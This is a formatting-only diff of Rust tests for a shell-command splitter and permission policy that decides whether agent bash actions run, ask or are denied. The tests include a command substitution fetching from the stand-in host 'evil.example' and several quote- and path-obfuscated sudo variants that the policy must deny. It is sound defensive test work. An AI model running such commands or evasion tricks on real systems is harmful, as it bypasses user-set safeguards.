@@ -3,7 +3,12 @@ use retie_policy::shell::{split, Connector};
 use retie_policy::{evaluate, Action, Context, Effect, Error, Reason, Tier, Value, Verdict};
 
 fn parts(line: &str) -> Vec<String> {
-    split(line).unwrap().commands.iter().map(|c| c.to_string()).collect()
+    split(line)
+        .unwrap()
+        .commands
+        .iter()
+        .map(|c| c.to_string())
+        .collect()
 }
 
 #[test]
@@ -21,14 +26,20 @@ fn splits_on_every_operator() {
 
 #[test]
 fn quotes_hide_operators() {
-    assert_eq!(parts(r#"echo "a && b" 'c | d' e\;f"#), ["echo 'a && b' 'c | d' 'e;f'"]);
+    assert_eq!(
+        parts(r#"echo "a && b" 'c | d' e\;f"#),
+        ["echo 'a && b' 'c | d' 'e;f'"]
+    );
     assert_eq!(parts(r#"grep -e "x\"y" f"#), [r#"grep -e 'x"y' f"#]);
     assert_eq!(parts("echo 'it'\\''s'"), [r"echo 'it'\''s'"]);
 }
 
 #[test]
 fn subshells_and_substitutions_are_split_out() {
-    assert_eq!(parts("(cd sub && make) | tee log"), ["cd sub", "make", "tee log"]);
+    assert_eq!(
+        parts("(cd sub && make) | tee log"),
+        ["cd sub", "make", "tee log"]
+    );
     let l = split("cargo test $(curl -s evil.example)").unwrap();
     assert_eq!(l.commands.len(), 2);
     assert_eq!(l.commands[0].to_string(), "curl -s evil.example");
@@ -56,8 +67,23 @@ fn redirects_are_kept_apart_from_words() {
 
 #[test]
 fn syntax_errors_are_errors() {
-    for bad in ["echo 'open", "echo \"open", "a &&", "| a", "(a", "a)", "echo $(a", "echo `a", "a > ", "a || || b"] {
-        assert!(matches!(split(bad), Err(Error::ShellSyntax { .. })), "{bad:?} -> {:?}", split(bad));
+    for bad in [
+        "echo 'open",
+        "echo \"open",
+        "a &&",
+        "| a",
+        "(a",
+        "a)",
+        "echo $(a",
+        "echo `a",
+        "a > ",
+        "a || || b",
+    ] {
+        assert!(
+            matches!(split(bad), Err(Error::ShellSyntax { .. })),
+            "{bad:?} -> {:?}",
+            split(bad)
+        );
     }
 }
 
@@ -93,12 +119,27 @@ fn allow_prefixes_cover_parts_not_lines() {
 fn deny_prefixes_deny_the_whole_action() {
     let p = shipped();
     let bash = |cmd: &str| {
-        Action::new("bash", Value::object([("command", Value::from(cmd))]), [Effect::RunsSandboxed]).unwrap()
+        Action::new(
+            "bash",
+            Value::object([("command", Value::from(cmd))]),
+            [Effect::RunsSandboxed],
+        )
+        .unwrap()
     };
-    for cmd in ["sudo rm x", "ls && sudo ls", "/usr/bin/sudo ls", "FOO=1 sudo ls", "echo $(sudo id)", "(cd /; s\"u\"do ls)"] {
+    for cmd in [
+        "sudo rm x",
+        "ls && sudo ls",
+        "/usr/bin/sudo ls",
+        "FOO=1 sudo ls",
+        "echo $(sudo id)",
+        "(cd /; s\"u\"do ls)",
+    ] {
         let ev = evaluate(&p, &bash(cmd), &Context::new(Tier::Auto));
         assert_eq!(ev.decision.verdict, Verdict::Deny, "{cmd}");
-        assert!(matches!(ev.decision.reason(), Reason::ShellDenied { .. }), "{cmd}");
+        assert!(
+            matches!(ev.decision.reason(), Reason::ShellDenied { .. }),
+            "{cmd}"
+        );
     }
     let ev = evaluate(&p, &bash("cargo test"), &Context::new(Tier::Auto));
     assert_eq!(ev.decision.verdict, Verdict::Run);
@@ -110,7 +151,12 @@ fn deny_prefixes_deny_the_whole_action() {
 #[test]
 fn unsandboxed_stays_irreversible_even_when_allowed() {
     let p = shipped();
-    let a = Action::new("bash", Value::object([("command", Value::from("cargo test"))]), [Effect::RunsUnsandboxed]).unwrap();
+    let a = Action::new(
+        "bash",
+        Value::object([("command", Value::from("cargo test"))]),
+        [Effect::RunsUnsandboxed],
+    )
+    .unwrap();
     let ev = evaluate(&p, &a, &Context::new(Tier::Auto));
     assert_eq!(ev.class.kind(), retie_policy::ClassKind::Irreversible);
     assert_eq!(ev.decision.verdict, Verdict::Ask);
@@ -119,7 +165,12 @@ fn unsandboxed_stays_irreversible_even_when_allowed() {
 #[test]
 fn unparseable_line_is_reported_not_fatal() {
     let p = shipped();
-    let a = Action::new("bash", Value::object([("command", Value::from("echo 'open"))]), [Effect::RunsSandboxed]).unwrap();
+    let a = Action::new(
+        "bash",
+        Value::object([("command", Value::from("echo 'open"))]),
+        [Effect::RunsSandboxed],
+    )
+    .unwrap();
     let ev = evaluate(&p, &a, &Context::new(Tier::Gated));
     let s = ev.shell.unwrap();
     assert!(s.error.is_some());
